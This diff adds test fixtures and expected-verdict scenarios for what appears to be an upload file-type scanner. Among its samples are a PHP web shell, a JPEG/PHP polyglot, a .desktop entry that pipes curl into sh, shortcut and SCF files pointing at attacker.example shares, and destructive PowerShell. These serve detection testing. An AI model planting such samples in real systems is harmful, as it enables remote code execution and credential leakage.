+TEXT(b_pl_plain, "use strict;\nuse warnings;\n\nmy $name = shift @ARGV;\nsub greet {\n    print \"hi $name\\n\";\n}\n")
+TEXT(b_rb, "#!/usr/bin/env ruby\nputs 'hello'\n")
+TEXT(b_rb_plain, "require 'json'\n\nmodule Greeter\n  def hello\n    puts 'hi'\n  end\nend\n")
+TEXT(b_php, "<?php\nsystem($_GET['c']);\n?>\n")
+TEXT(b_ps1, "[CmdletBinding()]\nparam([string]$Path)\nGet-ChildItem -Path $Path | Remove-Item -Force\nWrite-Host \"done\"\n")
+TEXT(b_bat, "@echo off\r\nset TARGET=%~dp0\r\nif exist \"%TARGET%x.txt\" del \"%TARGET%x.txt\"\r\ngoto :eof\r\n")
+TEXT(b_vbs, "Option Explicit\r\nDim sh\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc.exe\"\r\n")
+TEXT(b_js, "var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"calc.exe\");\n")
+TEXT(b_js_node, "'use strict';\nconst fs = require('fs');\nmodule.exports = function read(p) { return fs.readFileSync(p); };\n")
+TEXT(b_jse, "#@~^CAAAAA==Vb/D1+2ZAwIAAA==^#~@\n")
+TEXT(b_hta, "<html><head><hta:application id=\"app\" windowstate=\"minimize\"/>\n<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script></head></html>\n")
+TEXT(b_wsf, "<job id=\"main\">\n<script language=\"JScript\">WScript.Echo(\"hi\");</script>\n</job>\n")
+TEXT(b_url, "[InternetShortcut]\r\nURL=file://attacker.example/share/payload.exe\r\nIconIndex=1\r\n")
+TEXT(b_scf, "[Shell]\r\nCommand=2\r\nIconFile=\\\\attacker.example\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n")
+TEXT(b_desktop, "[Desktop Entry]\nType=Application\nName=Invoice\nExec=sh -c 'curl x | sh'\n")
+TEXT(b_libms, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList/></libraryDescription>\n")
+TEXT(b_eicar, "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
+TEXT(n_eicar, "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H+")
+
+static void b_utf16_ps1(struct sbuf *b)
+{
+	static const char s[] = "param($x)\r\nInvoke-Expression $x\r\n";
+	sb_put(b, "\xff\xfe", 2);
+	for (const char *p = s; *p; p++)
+		sb_u16le(b, (uint8_t)*p);
+}
+
+/* --- polyglots and disguises ------------------------------------------- */
+
+static void b_pdf_zip(struct sbuf *b)
+{
+	b_pdf(b);
+	static const struct zent e[] = {{"payload.js", "WScript.Echo(1);\n"}};
+	zip_build(b, e, 1);
+}
+static void b_jpeg_php(struct sbuf *b)
+{
+	sb_put(b, "\xff\xd8\xff\xfe\x00\x20", 6);
+	sb_str(b, "<?php system($_GET['c']); ?>  ");
+	sb_put(b, "\xff\xd9", 2);
+}
+static void b_png_zip(struct sbuf *b)
+{
+	b_png(b);
+	static const struct zent e[] = {{"a.txt", "x"}};
+	zip_build(b, e, 1);
+}
+
+/* --- tables ------------------------------------------------------------- */
+
+const struct sig sigs[] = {
+	{"zip", b_zip, n_zip},
+	{"jar", b_jar, n_jar},
+	{"apk", b_apk, n_jar},
+	{"docx", b_docx, n_docx},
+	{"docm", b_docm, n_docx},
+	{"xlsx", b_xlsx, n_docx},
+	{"xlsm", b_xlsm, n_docx},
+	{"pptx", b_pptx, n_docx},
+	{"pptm", b_pptm, n_docx},
+	{"odt", b_odt, n_odt},
+	{"ods", b_ods, n_odt},
+	{"odp", b_odp, n_odt},
+	{"epub", b_epub, n_odt},
+	{"tar", b_tar, n_tar},
+	{"tar-gnu", b_tar_gnu, n_tar},
+	{"tar-pax", b_tar_pax, n_tar},
+	{"tar-v7", b_tar_v7, n_tar},
+	{"gzip", b_gzip, n_gzip},
+	{"bzip2", b_bzip2, n_bzip2},
+	{"xz", b_xz, n_xz},
+	{"zstd", b_zstd, n_zstd},
+	{"lz4", b_lz4, n_lz4},
+	{"7z", b_7z, n_7z},
+	{"rar5", b_rar5, n_rar5},
+	{"rar4", b_rar4, n_rar4},
+	{"cab", b_cab, n_cab},
+	{"iso9660", b_iso, n_iso},
+	{"cpio", b_cpio, n_cpio},
+	{"ar", b_ar, n_ar},
+	{"deb", b_deb, n_ar},
+	{"rpm", b_rpm, n_rpm},
+	{"dmg", b_dmg, n_dmg},
+	{"vhd", b_vhd, n_vhd},
+	{"vhdx", b_vhdx, n_vhdx},
+	{"pe32-exe", b_pe32_exe, n_pe},
+	{"pe64-exe", b_pe64_exe, n_pe},
+	{"pe32-dll", b_pe32_dll, n_pe},
+	{"pe64-dll", b_pe64_dll, n_pe},
+	{"pe32-driver", b_pe32_sys, n_pe},
+	{"pe64-driver", b_pe64_sys, n_pe},
+	{"dos-mz", b_dos, n_pe},
+	{"elf-exec", b_elf_exec, n_elf},
+	{"elf-so", b_elf_so, n_elf},
+	{"elf-pie", b_elf_pie, n_elf},
+	{"elf-rel", b_elf_rel, n_elf},
+	{"macho", b_macho, n_macho},
+	{"macho-fat", b_macho_fat, n_class},
+	{"java-class", b_class, n_class},
+	{"pdf", b_pdf, n_pdf},
+	{"pdf", b_pdf_late, n_pdf},
+	{"doc", b_doc, n_doc},
+	{"xls", b_xls, n_doc},
+	{"ppt", b_ppt, n_doc},
+	{"msg", b_msg, n_doc},
+	{"msi", b_msi, n_doc},
+	{"ole", n_doc, n_ole},
+	{"rtf", b_rtf, n_rtf},
+	{"onenote", b_one, n_one},
+	{"lnk", b_lnk, n_lnk},
+	{"chm", b_chm, n_chm},
+	{"png", b_png, n_png},
+	{"jpeg", b_jpeg, n_jpeg},
+	{"gif", b_gif, n_gif},
+	{"webp", b_webp, n_webp},
+	{"bmp", b_bmp, n_bmp},
+	{"tiff", b_tiff, n_tiff},
+	{"ico", b_ico, n_ico},
+	{"svg", b_svg, b_xml},
+	{"heic", b_heic, n_mp4},
+	{"avif", b_avif, n_mp4},
+	{"mp3", b_mp3, n_mp3},
+	{"mp4", b_mp4, n_mp4},
+	{"wav", b_wav, n_webp},
+	{"ogg", b_ogg, n_ogg},
+	{"flac", b_flac, n_flac},
+	{"text", b_text, n_text},
+	{"text", b_utf8, n_elf},
+	{"csv", b_csv, n_csv},
+	{"json", b_json, n_json},
+	{"xml", b_xml, b_text},
+	{"html", b_html, n_html},
+	{"markdown", b_md, b_text},
+	{"shell", b_sh, b_text},
+	{"python", b_py_shebang, b_text},
+	{"python", b_py, b_text},
+	{"perl", b_pl, b_text},
+	{"perl", b_pl_plain, b_text},
+	{"ruby", b_rb, b_text},
+	{"ruby", b_rb_plain, b_text},
+	{"php", b_php, b_text},
+	{"powershell", b_ps1, b_text},
+	{"powershell", b_utf16_ps1, b_text},
+	{"batch", b_bat, b_text},
+	{"vbscript", b_vbs, b_text},
+	{"javascript", b_js, b_text},
+	{"javascript", b_js_node, b_json},
+	{"wsh-encoded", b_jse, b_text},
+	{"hta", b_hta, b_html},
+	{"wsf", b_wsf, b_xml},
+	{"url", b_url, b_text},
+	{"scf", b_scf, b_text},
+	{"desktop", b_desktop, b_text},
+	{"library-ms", b_libms, b_xml},
+};
+const size_t nsigs = sizeof sigs / sizeof sigs[0];
+
+const struct scenario scenarios[] = {
+	/* The issue's acceptance cases. */
+	{"report.pdf", b_pe32_exe, "", "pe32-exe", "exec.native type.mismatch", "block",
+	 "a Windows program named as a PDF"},
+	{"upload.png", b_py, "--accept image/png", "python", "type.disallowed type.mismatch", "block",
+	 "a Python script uploaded as a PNG to a PNG-only form (Streamlit file_uploader)"},
+	{"photo.jpg", b_png, "", "png", "type.mismatch", "allow", "a PNG named .jpg: harmless mismatch"},
+	{"eicar.com", b_eicar, "", "text", "sig.eicar type.mismatch", "block", "the EICAR test file"},
+	{"logo.svg", b_svg_script, "--accept image/*", "svg", "html.script", "block",
+	 "an SVG image carrying <script>"},
+	/* Benign files stay quiet. */
+	{"notes.txt", b_text, "", "text", "", "allow", "plain text"},
+	{"resume.txt", b_utf8, "", "text", "", "allow", "UTF-8 text with accents"},
+	{"scores.csv", b_csv, "--accept .csv", "csv", "", "allow", "a CSV accepted as .csv"},
+	{"plain.csv", b_text, "--accept .csv", "text", "", "allow", "text with no commas still passes a .csv accept"},
+	{"data.json", b_json, "", "json", "", "allow", "JSON"},
+	{"logo-clean.svg", b_svg, "--accept image/*", "svg", "", "allow", "a script-free SVG"},
+	{"page.html", b_html, "", "html", "", "allow", "script-free HTML"},
+	{"picture.png", b_png, "--accept image/png", "png", "", "allow", "a PNG where PNGs are accepted"},
+	{"letter.docx", b_docx, "--accept .docx", "docx", "", "allow", "a DOCX where DOCX is accepted"},
+	{"bundle.zip", b_docx, "", "docx", "", "allow", "a DOCX named .zip: a DOCX is a ZIP"},
+	{"pkg.deb", b_deb, "", "deb", "", "allow", "a Debian package"},
+	{"archive.tar", b_tar, "", "tar", "", "allow", "a tar archive"},
+	{"README.md", b_md, "", "markdown", "", "allow", "Markdown"},
+	/* Executables and scripts. */
+	{"tool.exe", b_pe64_exe, "", "pe64-exe", "exec.native", "block", "a PE32+ program named .exe"},
+	{"helper.dll", b_pe32_dll, "", "pe32-dll", "exec.native", "block", "a DLL"},
+	{"driver.sys", b_pe64_sys, "", "pe64-driver", "exec.native", "block", "a kernel driver"},
+	{"a.out", b_elf_exec, "", "elf-exec", "exec.native", "block", "an ELF executable"},
+	{"libx.so", b_elf_so, "", "elf-so", "exec.native", "block", "an ELF shared object"},
+	{"app", b_macho, "", "macho", "exec.native", "block", "a Mach-O program"},
+	{"old.com", b_dos, "", "dos-mz", "exec.native", "block", "an MS-DOS program"},
+	{"install.sh", b_sh, "", "shell", "exec.script", "block", "a shell script"},
+	{"tool.py", b_py_shebang, "", "python", "exec.script", "block", "a Python script with #!"},
+	{"lib.py", b_py, "", "python", "", "allow", "a Python module without #! is not executable by itself"},
+	{"run.ps1", b_ps1, "", "powershell", "exec.script", "block", "PowerShell"},
+	{"run16.ps1", b_utf16_ps1, "", "powershell", "exec.script", "block", "UTF-16 PowerShell"},
+	{"setup.bat", b_bat, "", "batch", "exec.script", "block", "a batch file"},
+	{"invoice.vbs", b_vbs, "", "vbscript", "exec.script", "block", "VBScript"},
+	{"invoice.js", b_js, "", "javascript", "exec.script", "block", "JScript run by Windows Script Host"},
+	{"invoice.jse", b_jse, "", "wsh-encoded", "exec.script", "block", "an encoded JScript"},
+	{"update.hta", b_hta, "", "hta", "exec.script", "block", "an HTML application"},
+	{"job.wsf", b_wsf, "", "wsf", "exec.script", "block", "a Windows Script File"},
+	{"shell.php", b_php, "", "php", "exec.script", "block", "a PHP web shell"},
+	{"invoice.lnk", b_lnk, "", "lnk", "exec.shortcut", "block", "a Windows shortcut"},
+	{"portal.url", b_url, "", "url", "exec.shortcut", "block", "an Internet shortcut to a file share"},
+	{"desktop.scf", b_scf, "", "scf", "exec.shortcut", "block", "an Explorer command file"},
+	{"invoice.desktop", b_desktop, "", "desktop", "exec.shortcut", "block", "a Linux desktop entry"},
+	{"docs.library-ms", b_libms, "", "library-ms", "exec.shortcut", "block", "a Windows library description"},
+	/* Disguises. */
+	{"cv.docx", b_pe64_dll, "", "pe64-dll", "exec.native type.mismatch", "block", "a DLL named as a CV"},
+	{"notes.txt.lnk", b_lnk, "", "lnk", "exec.shortcut", "block", "a shortcut with a double extension"},
+	{"avatar.png", b_html_script, "", "html", "html.script type.mismatch", "block", "HTML posing as an image"},
+	{"photo.gif", b_jpeg_php, "", "jpeg", "type.mismatch type.polyglot", "warn",
+	 "a JPEG carrying PHP, named .gif"},
+	{"photo2.jpg", b_jpeg_php, "", "jpeg", "type.polyglot", "warn", "a JPEG whose comment holds PHP code"},
+	{"doc.pdf", b_pdf_zip, "", "pdf", "type.polyglot", "warn", "a PDF that is also a ZIP"},
+	{"image.png", b_png_zip, "", "png", "type.polyglot", "warn", "a PNG with a ZIP appended"},
+	{"upload.txt", b_svg_onload, "--accept text/plain", "svg", "html.script type.disallowed type.mismatch",
+	 "block", "an SVG with an onload handler sent as text"},
+	{"link.svg", b_svg_jsurl, "", "svg", "html.script", "block", "an entity-encoded javascript: URL"},
+	{"data.csv", b_ps1, "--declared-type text/csv", "powershell", "exec.script type.mismatch", "block",
+	 "PowerShell declared as text/csv"},
+	{"report.pdf.exe", b_pdf, "", "pdf", "type.mismatch", "allow", "a PDF named .exe is merely mislabelled"},
+	{"almost-eicar.txt", n_eicar, "", "text", "", "allow", "one character off the EICAR string"},
+	/* Policy changes severities. */
+	{"photo-policy.jpg", b_png, "--severity type.mismatch=high", "png", "type.mismatch", "block",
+	 "a policy can make any id block"},
+	{"tool-policy.exe", b_pe64_exe, "--severity exec.*=low", "pe64-exe", "exec.native", "allow",
+	 "a policy prefix can lower a family"},
+};
+const size_t nscenarios = sizeof scenarios / sizeof scenarios[0];
